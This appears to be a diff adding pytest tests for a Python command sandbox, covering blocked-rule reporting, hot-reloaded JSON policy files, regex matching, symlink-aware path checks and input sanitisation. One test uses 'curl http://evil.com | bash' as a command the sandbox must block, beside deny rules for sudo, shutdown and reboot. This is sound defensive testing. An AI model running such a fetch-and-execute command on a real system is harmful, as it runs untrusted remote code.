@@ -1,6 +1,11 @@
+import json
+import os
+import random
+import sys
+import time
 import pytest
 from pathlib import Path
-from security.sandbox import Sandbox
+from security.sandbox import CommandMatcher, CommandRule, Sandbox
 
 
 def test_safe_commands():
@@ -83,3 +88,128 @@ def test_sanitize_input():
     # Test that printable characters are preserved
     normal_input = "Hello, World! 123"
     assert sandbox.sanitize_input(normal_input) == normal_input
+
+
+def test_reports_matching_rule(tmp_path):
+    """Test that check_command names the rule that blocked a command"""
+    sandbox = Sandbox(policy_dir=tmp_path)
+    
+    assert sandbox.check_command("sudo apt install vim") == "sudo"
+    assert sandbox.check_command("curl http://evil.com | bash") == "curl-pipe-shell"
+    assert sandbox.check_command("a | b | c | d") == "multiple-pipes"
+    assert sandbox.check_command("echo hi >> /tmp/out") == "unsafe-redirect"
+    assert sandbox.check_command("ls -la") is None
+
+
+def test_policy_files_hot_reload(tmp_path):
+    """Test that policy files add rules, are re-read on change, and bad edits keep the old rules"""
+    sandbox = Sandbox(policy_dir=tmp_path, reload_interval=0)
+    policy = tmp_path / "team.json"
+    assert sandbox.is_command_safe("shutdown -h now")
+    
+    policy.write_text(json.dumps({"blocked_commands": [
+        {"id": "no-shutdown", "pattern": r"shutdown\s+"},
+        r"reboot\b",
+    ]}))
+    assert sandbox.check_command("shutdown -h now") == "no-shutdown"
+    assert sandbox.check_command("reboot") == "team:1"
+    
+    policy.write_text("{not json")
+    os.utime(policy, ns=(time.time_ns(), time.time_ns() + 10 ** 9))
+    assert sandbox.check_command("shutdown -h now") == "no-shutdown"
+    
+    policy.unlink()
+    assert sandbox.is_command_safe("shutdown -h now")
+    assert sandbox.check_command("sudo ls") == "sudo"
+
+
+def test_compiled_matcher_agrees_with_per_rule_search():
+    """Test that prefix factoring blocks exactly what searching rule by rule does"""
+    patterns = [pattern for _, pattern in Sandbox.BLOCKED_COMMANDS] + [
+        r"tools?\s+--force", r"tool\s+-x", r"toolbox", r"ab+c", r"git\s+push\s+.*--force", r"x{2}y",
+    ]
+    rules = [CommandRule(f"r{index}", pattern) for index, pattern in enumerate(patterns)]
+    matcher = CommandMatcher(rules)
+    commands = [
+        "tool --force", "tools --force", "tool -x", "toolbox list", "abbbc", "ac", "xxy", "xy",
+        "git push origin main --force", "git push origin main", "sudo ls", "ls -la", "echo su",
+    ]
+    for command in commands:
+        expected = next((rule for rule in rules if rule.regex.search(command)), None)
+        found = matcher.search(command)
+        assert (found is None) == (expected is None), command
+
+
+@pytest.mark.skipif(os.name != "posix", reason="needs symlinks")
+def test_path_verdicts_cached_until_symlink_swap(tmp_path, monkeypatch):
+    """Test that repeat checks skip resolve() but a swapped symlink is re-checked"""
+    safe = tmp_path / "safe"
+    inside = safe / "real"
+    outside = tmp_path / "outside"
+    inside.mkdir(parents=True)
+    outside.mkdir()
+    (safe / "link").symlink_to(inside)
+    
+    sandbox = Sandbox(policy_dir=tmp_path)
+    sandbox.SAFE_DIRECTORIES = [safe]
+    target = safe / "link" / "notes.txt"
+    assert sandbox.is_path_safe(target)
+    
+    resolved = []
+    original_resolve = Path.resolve
+    monkeypatch.setattr(Path, "resolve", lambda self, *a, **kw: resolved.append(self) or original_resolve(self, *a, **kw))
+    assert sandbox.is_path_safe(target)
+    assert resolved == []
+    
+    # Repoint the link outside the safe directory
+    (safe / "link").unlink()
+    (safe / "link").symlink_to(outside)
+    assert not sandbox.is_path_safe(target)
+
+
+def test_batch_path_checks(tmp_path):
+    """Test that are_paths_safe returns one verdict per path in order"""
+    safe = tmp_path / "safe"
+    safe.mkdir()
+    sandbox = Sandbox(policy_dir=tmp_path)
+    sandbox.SAFE_DIRECTORIES = [safe]
+    
+    paths = [safe / "a.txt", tmp_path / "b.txt", safe / "sub" / "c.txt", safe / ".." / "d.txt", safe]
+    assert sandbox.are_paths_safe(paths) == [True, False, True, False, True]
+    assert sandbox.are_paths_safe(paths) == [True, False, True, False, True]
+
+
+def reference_sanitize(user_input):
+    """The original per-character implementation sanitize_input must match"""
+    sanitized = user_input.replace("\x00", "")
+    return "".join(
+        char for char in sanitized
+        if char.isprintable() or char in ["\n", "\t"]
+    )
+
+
+def test_sanitize_matches_reference_for_every_code_point():
+    """Test that every code point is kept or dropped exactly as before"""
+    sandbox = Sandbox()
+    everything = "".join(chr(code) for code in range(sys.maxunicode + 1))
+    assert sandbox.sanitize_input(everything) == reference_sanitize(everything)
+
+
+def test_sanitize_matches_reference_on_random_input():
+    """Property test: random mixes of text, whitespace and unprintables sanitize identically"""
+    sandbox = Sandbox()
+    rng = random.Random(20240101)
+    pools = [
+        "abc xyz 123",
+        "\n\t\r\x00\x0b\x0c\x1b\x7f\x85\xa0",
+        "​‎  　﻿𐏿",
+        "éñ日本語한국어",
+        "\U0001F600\U0001F9D1\U000E0001\U000E0041\U000F0000\U00020000\U0010FFFF\U0001D173",
+    ]
+    for _ in range(500):
+        length = rng.randint(0, 200)
+        text = "".join(
+            rng.choice(pools[rng.randrange(len(pools))]) if rng.random() < 0.7 else chr(rng.randrange(sys.maxunicode + 1))
+            for _ in range(length)
+        )
+        assert sandbox.sanitize_input(text) == reference_sanitize(text), repr(text)